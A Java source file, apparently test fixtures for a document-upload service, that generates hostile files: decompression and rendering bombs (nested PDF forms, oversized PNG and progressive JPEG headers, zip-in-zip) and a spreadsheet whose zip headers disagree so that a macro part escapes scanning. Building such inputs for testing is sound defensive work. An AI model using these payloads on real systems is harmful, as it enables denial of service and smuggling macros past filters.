package org.qiangxian.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Small files that are expensive to open, made by code. */
public final class Bombs {

    private Bombs() {}

    /** A PDF form that draws another one twice, in twenty-eight levels: 2²⁸ strokes from five kilobytes. */
    public static byte[] nestedForms() {
        var objects = new ArrayList<String>();
        objects.add("<</Type/Catalog/Pages 2 0 R>>");
        objects.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
        objects.add(
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>");
        objects.add(stream("", "/F Do"));
        for (int depth = 0; depth < 28; depth++) {
            var resources = "/Resources<</XObject<</F " + (objects.size() + 2) + " 0 R>>>>";
            objects.add(stream("/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + resources, "/F Do /F Do"));
        }
        objects.add(stream("/Type/XObject/Subtype/Form/BBox[0 0 595 842]", "0 0 500 500 re S"));
        return pdf(objects);
    }

    /** A page that draws one picture four thousand times. */
    public static byte[] oneImageDrawnOften() {
        var objects = new ArrayList<String>();
        objects.add("<</Type/Catalog/Pages 2 0 R>>");
        objects.add("<</Type/Pages/Kids[3 0 R]/Count 1>>");
        objects.add(
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>");
        objects.add(stream("", "q 595 0 0 842 0 0 cm /I Do Q\n".repeat(4_000)));
        var packed = packed(new byte[2_480 * 3_508 / 8]);
        objects.add("<</Type/XObject/Subtype/Image/Width 2480/Height 3508/BitsPerComponent 1/ColorSpace/DeviceGray"
                + "/Filter/FlateDecode/Length " + packed.length + ">>\nstream\n"
                + new String(packed, StandardCharsets.ISO_8859_1) + "\nendstream");
        return pdf(objects);
    }

    private static byte[] packed(byte[] content) {
        var deflater = new Deflater(9);
        deflater.setInput(content);
        deflater.finish();
        var out = new byte[content.length];
        return Arrays.copyOf(out, deflater.deflate(out));
    }

    private static String stream(String dictionary, String content) {
        return "<<" + dictionary + "/Length " + content.length() + ">>\nstream\n" + content + "\nendstream";
    }

    private static byte[] pdf(List<String> objects) {
        var text = new StringBuilder("%PDF-1.7\n");
        var places = new ArrayList<Integer>();
        for (int i = 0; i < objects.size(); i++) {
            places.add(text.length());
            text.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        int table = text.length();
        text.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
        places.forEach(place -> text.append("%010d 00000 n \n".formatted(place)));
        text.append("trailer\n<</Size ")
                .append(objects.size() + 1)
                .append("/Root 1 0 R>>\nstartxref\n")
                .append(table)
                .append("\n%%EOF\n");
        return text.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Thirty pages with nothing on them. */
    public static byte[] blankPages() {
        try (var document = new PDDocument()) {
            for (int page = 0; page < 30; page++) {
                document.addPage(new PDPage());
            }
            return saved(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One page that needs a password. */
    public static byte[] withPassword() {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            document.protect(new StandardProtectionPolicy("owner", "reader", new AccessPermission()));
            return saved(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] saved(PDDocument document) throws IOException {
        var out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    /** A progressive JPEG that claims 79 million pixels: each of its scans covers all of them. */
    public static byte[] progressiveJpeg() {
        try {
            var out = new ByteArrayOutputStream();
            var writer = ImageIO.getImageWritersByFormatName("jpeg").next();
            try (var stream = ImageIO.createImageOutputStream(out)) {
                writer.setOutput(stream);
                var how = writer.getDefaultWriteParam();
                how.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
                writer.write(null, new javax.imageio.IIOImage(noise(), null, null), how);
            } finally {
                writer.dispose();
            }
            return claiming(out.toByteArray(), 8_880);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static BufferedImage noise() {
        var image = new BufferedImage(600, 600, BufferedImage.TYPE_INT_RGB);
        for (int i = 0; i < 360_000; i++) {
            image.setRGB(i % 600, i / 600, i * 2_654_435 & 0xFFFFFF);
        }
        return image;
    }

    /** Writes another size into the header of a progressive JPEG. */
    private static byte[] claiming(byte[] jpeg, int side) {
        for (int at = 2; at < jpeg.length - 9; at++) {
            if ((jpeg[at] & 0xFF) == 0xFF && (jpeg[at + 1] & 0xFF) == 0xC2) {
                ByteBuffer.wrap(jpeg).putShort(at + 5, (short) side).putShort(at + 7, (short) side);
                return jpeg;
            }
        }
        throw new IllegalStateException("no progressive picture");
    }

    /** A PNG of a few bytes that claims a thousand million pixels. */
    public static byte[] hugePng() {
        var out = ByteBuffer.allocate(200);
        out.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A});
        var head = ByteBuffer.allocate(13).putInt(40_000).putInt(25_000).put(new byte[] {8, 2, 0, 0, 0});
        chunk(out, "IHDR", head.array());
        chunk(out, "IDAT", packed(new byte[100]));
        chunk(out, "IEND", new byte[0]);
        return Arrays.copyOf(out.array(), out.position());
    }

    private static void chunk(ByteBuffer out, String name, byte[] content) {
        var whole = ByteBuffer.allocate(content.length + 4)
                .put(name.getBytes(StandardCharsets.US_ASCII))
                .put(content)
                .array();
        var sum = new CRC32();
        sum.update(whole);
        out.putInt(content.length).put(whole).putInt((int) sum.getValue());
    }

    /** A zip of sixteen zips, each of which unpacks to a hundred megabytes. */
    public static byte[] zipInZip() {
        var inner = zip(List.of("content"), new byte[100 << 20]);
        var names = new ArrayList<String>();
        for (int i = 0; i < 16; i++) {
            names.add(i + ".zip");
        }
        return zip(names, inner);
    }

    private static byte[] zip(List<String> names, byte[] content) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A workbook as a program writes it, with one additional part. */
    public static byte[] table(String part) {
        var written = new ByteArrayOutputStream();
        var whole = new ByteArrayOutputStream();
        try (var book = new XSSFWorkbook()) {
            book.createSheet("表").createRow(0).createCell(0).setCellValue("平遥县");
            book.write(written);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        try (var from = new ZipInputStream(new ByteArrayInputStream(written.toByteArray()));
                var to = new ZipOutputStream(whole)) {
            for (var entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
                to.putNextEntry(new ZipEntry(entry.getName()));
                from.transferTo(to);
            }
            to.putNextEntry(new ZipEntry(part));
            to.write("<a/>".getBytes(StandardCharsets.US_ASCII));
            to.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return whole.toByteArray();
    }

    /** A workbook whose local headers are harmless while its central directory names a macro project. */
    public static byte[] hiddenMacro(byte[] tableWithPart, String harmless, String macro) {
        var text = new String(tableWithPart, StandardCharsets.ISO_8859_1);
        int directory = text.lastIndexOf(macro);
        int head = text.indexOf(macro);
        if (head < 0 || head == directory || harmless.length() != macro.length()) {
            throw new IllegalArgumentException(macro);
        }
        var changed = tableWithPart.clone();
        System.arraycopy(harmless.getBytes(StandardCharsets.ISO_8859_1), 0, changed, head, harmless.length());
        return changed;
    }
}
